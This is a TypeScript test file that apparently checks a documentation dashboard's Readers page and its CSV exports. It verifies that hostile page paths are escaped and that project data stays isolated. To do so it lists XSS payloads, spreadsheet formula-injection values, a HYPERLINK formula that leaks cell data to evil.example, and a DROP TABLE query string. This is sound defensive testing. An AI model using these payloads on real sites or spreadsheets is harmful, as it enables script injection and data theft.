// Readers' page paths are whatever a browser (or anyone) sends to the site's public endpoints. On
// the dashboard's Readers page they are text, never markup; in its CSV files they stay one cell
// that no spreadsheet runs as a formula; and one project's readers never show on another's page.
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readersCsv, readersPageContent } from '../../packages/server/src/dashboard/readers/index.ts';
import { settingsFor } from '../../packages/server/test/helpers/backends.ts';
import { ReaderActivity } from '../../packages/server/test/helpers/reader-activity.ts';
import { launchBrowser } from '../helpers/browser.ts';

// Printable, no spaces: what `POST /_docwright/telemetry` and `/_docwright/feedback` accept.
const hostilePaths = [
  '/<script>parent.pwned("script")</script>',
  '/"><svg/onload=pwned("svg")>',
  "/x'onmouseover='pwned(\"attribute\")'",
  '/<img/src=x/onerror=pwned("img")>',
  '/&lt;b&gt;entity',
  '/a]]><text>cdata</text>',
  '/,=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '/","=1+1","',
  `/${'<i>'.repeat(160)}`,
];
// Recorded through the store alone (the endpoints refuse them): paths a spreadsheet would run, and
// one with a line break.
const formulaPaths = ['=1+1', '+SUM(A1:A9)', '-2+3', '@cmd', '\t=1', '\r=1', 'a\r\nb,"c"'];

/** RFC 4180 fields (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && ch === '"') quoted = false;
    else if (quoted) field += ch;
    else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  expect(quoted).toBe(false);
  expect(field).toBe('');
  return rows;
}

describe('hostile page paths on the Readers page', () => {
  let activity: ReaderActivity;
  let browser: Browser;

  beforeAll(async () => {
    activity = await ReaderActivity.open(await settingsFor('embedded'));
    for (const [index, path] of hostilePaths.entries()) {
      await activity.view('acme', path, 10 + index);
      await activity.answer('acme', path, index % 2 === 0);
    }
    for (const path of formulaPaths) {
      await activity.store.pageViews.record('acme', path);
      await activity.store.feedback.record('acme', path, false);
    }
    await activity.view('globex', '/globex-secret-roadmap', 500);
    await activity.answer('globex', '/globex-secret-roadmap', true, 50);
    browser = await launchBrowser();
  }, 300_000);
  afterAll(async () => {
    await browser?.close();
    await activity?.close();
  });

  it('shows every path as text: no element, attribute or script comes from one', async () => {
    const content = await readersPageContent(activity.store, 'acme', new URLSearchParams({ days: '7' }));
    for (const raw of ['<script', '<svg/onload', '<img', "'onmouseover", '<text>cdata', '<i>'])
      expect(content.body).not.toContain(raw);
    const page = await browser.newPage();
    const fired: string[] = [];
    await page.exposeFunction('pwned', (what: string) => fired.push(what));
    page.on('dialog', (dialog) => {
      fired.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    try {
      await page.setContent(
        `<!doctype html><html lang="en"><head><title>Readers</title><style>${content.styles}</style></head><body><main>${content.body}</main></body></html>`,
      );
      await page.$$eval('details', (all: HTMLDetailsElement[]) => {
        for (const details of all) details.open = true;
      });
      await page.hover('svg.dw-readers-chart >> nth=1');
      const dom = await page.evaluate(() => ({
        scripts: document.querySelectorAll('script').length,
        foreign: document.querySelectorAll(
          'main img, main i, main svg svg text text, main [onload], main [onerror], main [onmouseover]',
        ).length,
        tableCells: [...document.querySelectorAll('tbody th')].map((cell) => cell.textContent),
        titles: [...document.querySelectorAll('svg title')].map((title) => title.textContent ?? ''),
      }));
      expect(dom.scripts).toBe(0);
      expect(dom.foreign).toBe(0);
      expect(fired).toEqual([]);
      // The table's page cells read exactly as the paths were sent.
      for (const path of [
        '/<script>parent.pwned("script")</script>',
        '/"><svg/onload=pwned("svg")>',
        '/&lt;b&gt;entity',
      ])
        expect(dom.tableCells).toContain(path);
      expect(dom.titles.some((title) => title === hostilePaths.at(-1))).toBe(true);
    } finally {
      await page.close();
    }
  });

  it('keeps each path one CSV cell that no spreadsheet runs', async () => {
    for (const kind of ['feedback', 'page-views'] as const) {
      const { csv, filename } = await readersCsv(
        activity.store,
        'acme',
        kind,
        new URLSearchParams({ days: '7' }),
      );
      expect(filename).toBe(`acme-${kind}-7d.csv`);
      const rows = parseCsv(csv);
      const width = (rows[0] as string[]).length;
      for (const row of rows) expect(row).toHaveLength(width);
      const pathColumn = (rows[0] as string[]).indexOf('path');
      const paths = new Set(rows.slice(1).map((row) => row[pathColumn]));
      for (const path of hostilePaths) expect(paths).toContain(path);
      for (const path of formulaPaths) expect(paths).toContain(/^[=+\-@\t\r]/.test(path) ? `'${path}` : path);
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("never shows another project's readers", async () => {
    for (const days of ['7', '30', '90']) {
      const query = new URLSearchParams({ days });
      const content = await readersPageContent(activity.store, 'acme', query);
      expect(content.body).not.toContain('globex');
      for (const kind of ['feedback', 'page-views'] as const)
        expect((await readersCsv(activity.store, 'acme', kind, query)).csv).not.toContain('globex');
    }
    const theirs = await readersPageContent(activity.store, 'globex', new URLSearchParams());
    expect(theirs.body).toContain('/globex-secret-roadmap');
    expect(theirs.body).not.toContain('HYPERLINK');
  });

  it('reads any other ?days= as 30', async () => {
    for (const days of ['-1', '1e9', '90;DROP TABLE page_views', '0x1e', ' 7', '７']) {
      const content = await readersPageContent(activity.store, 'acme', new URLSearchParams({ days }));
      expect(content.body).toContain('href="readers?days=30" aria-current="page"');
      const { filename } = await readersCsv(
        activity.store,
        'acme',
        'feedback',
        new URLSearchParams({ days }),
      );
      expect(filename).toBe('acme-feedback-30d.csv');
    }
  });
});
